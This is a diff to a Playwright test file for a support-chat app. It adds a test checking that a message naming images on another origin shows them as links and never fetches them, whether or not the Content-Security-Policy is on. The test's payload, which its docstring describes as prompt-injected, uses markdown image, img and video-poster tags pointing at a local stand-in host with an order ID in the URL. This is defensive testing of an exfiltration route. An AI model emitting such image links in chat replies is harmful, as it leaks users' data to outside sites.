@@ -1,6 +1,7 @@
 """The pages work in Chromium under their Content-Security-Policy (csbot/csp.py): nothing
 on the player page, the staff dashboard or the analytics is refused by it, the chat's
-WebSocket included, while the policy is in force on each of them.
+WebSocket included, while the policy is in force on each of them. And a message naming
+an image on another site makes no browser fetch it (chat/static/chat/markdown.js).
 
 The browser says what the policy refused twice: a `securitypolicyviolation` event in the
 page, and a console line "Refused to …". Both are recorded, across navigations.
@@ -8,10 +9,14 @@ page, and a console line "Refused to …". Both are recorded, across navigations
 
 from __future__ import annotations
 
+import threading
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+
 import pytest
 
+from tests import servers
 from tests.analytics.test_browser import ALL_DRAWN
-from tests.e2e.test_staff_browser import ask, open_player, sign_in_as_agent
+from tests.e2e.test_staff_browser import ask, open_player, sign_in_as_agent, take_over_a_new_chat
 
 QUESTION = "充值没到账怎么办"
 PLAYER_BOT = '[data-testid="message"][data-sender="bot"]'
@@ -82,3 +87,88 @@ def test_the_player_page_the_dashboard_and_analytics_work_with_nothing_refused(r
     assert refused.refusals == []
     # The shared styles apply (a file now: the policy refuses inline ones): the header is a flex row.
     assert manager.locator(".site-header").evaluate("(h) => getComputedStyle(h).display") == "flex"
+
+
+class Elsewhere:
+    """Another site (another port: another origin) that records every request it gets."""
+
+    def __init__(self) -> None:
+        hits = self.hits = []
+
+        class Record(BaseHTTPRequestHandler):
+            def do_GET(self):  # noqa: N802 - http.server's name
+                hits.append(self.path)
+                self.send_response(200)
+                self.send_header("Content-Type", "image/gif")
+                self.end_headers()
+                self.wfile.write(b"GIF89a")
+
+            def log_message(self, *args):
+                pass
+
+        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Record)
+        self.url = f"http://127.0.0.1:{self.server.server_port}"
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+
+    def stop(self) -> None:
+        self.server.shutdown()
+        self.server.server_close()
+
+
+@pytest.fixture
+def elsewhere():
+    site = Elsewhere()
+    yield site
+    site.stop()
+
+
+@pytest.fixture(scope="module")
+def server_without_policy(tmp_path_factory):
+    """csbot with CONTENT_SECURITY_POLICY set empty: only the page's own rendering stands."""
+    server = servers.demo_daphne(tmp_path_factory.mktemp("no_policy"), CONTENT_SECURITY_POLICY="")
+    yield server
+    server.stop()
+
+
+# One black pixel, inside the text: loading it asks nobody.
+INLINE_PIXEL = "data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///ywAAAAAAQABAAACAUwAOw=="
+
+
+@pytest.mark.parametrize("policy", ["in force", "turned off"])
+def test_an_image_from_another_site_is_shown_as_a_link_and_never_fetched(refused, elsewhere, request, policy):
+    """A prompt-injected message names an image whose URL carries the chat's data to
+    another site: the player and the watching agent see a link named by its alt text, and
+    that site hears nothing, even with the policy turned off."""
+    from playwright.sync_api import expect
+
+    server = request.getfixturevalue("chat_server" if policy == "in force" else "server_without_policy")
+    asked_elsewhere: list[str] = []
+    agent, player = refused(), refused(viewport=(420, 860))
+    for page in (agent, player):
+        page.on("request", lambda r: asked_elsewhere.append(r.url) if r.url.startswith(elsewhere.url) else None)
+    sign_in_as_agent(agent, server.url)
+    take_over_a_new_chat(agent, player, server.url)
+    reply = (
+        f"Your receipt: ![your receipt](<{elsewhere.url}/p.png?d=order-SL2025061201>)\n\n"
+        f'<img src="{elsewhere.url}/raw.png" alt="the raw receipt"> '
+        f'<video src="{elsewhere.url}/v.mp4" poster="{elsewhere.url}/poster.png"></video>\n\n'
+        f"![our logo]({INLINE_PIXEL})"
+    )
+    agent.get_by_test_id("agent-input").fill(reply)
+    agent.get_by_test_id("agent-input").press("Enter")
+
+    to_player = player.locator('[data-testid="message"][data-sender="agent"]').get_by_test_id("message-text")
+    in_dashboard = agent.locator('#messages [data-sender="agent"]').get_by_test_id("message-text")
+    for shown in (to_player.first, in_dashboard.first):
+        link = shown.get_by_role("link", name="your receipt")
+        expect(link).to_have_attribute("href", f"{elsewhere.url}/p.png?d=order-SL2025061201")
+        expect(link).to_have_attribute("target", "_blank")
+        expect(shown.get_by_role("link", name="the raw receipt")).to_have_attribute("href", f"{elsewhere.url}/raw.png")
+        expect(shown.get_by_role("img", name="our logo")).to_be_visible()  # inside the text: still an image
+        expect(shown.locator(f'[src^="{elsewhere.url}"], [poster]')).to_have_count(0)
+    player.wait_for_timeout(500)  # time for a fetch that should not come
+
+    assert elsewhere.hits == [] and asked_elsewhere == []
+    assert refused.refusals == []
+    agent.get_by_test_id("close").click()  # room for the chats of the tests after this one
+    expect(agent.get_by_test_id("conv-state")).to_have_attribute("data-state", "closed")
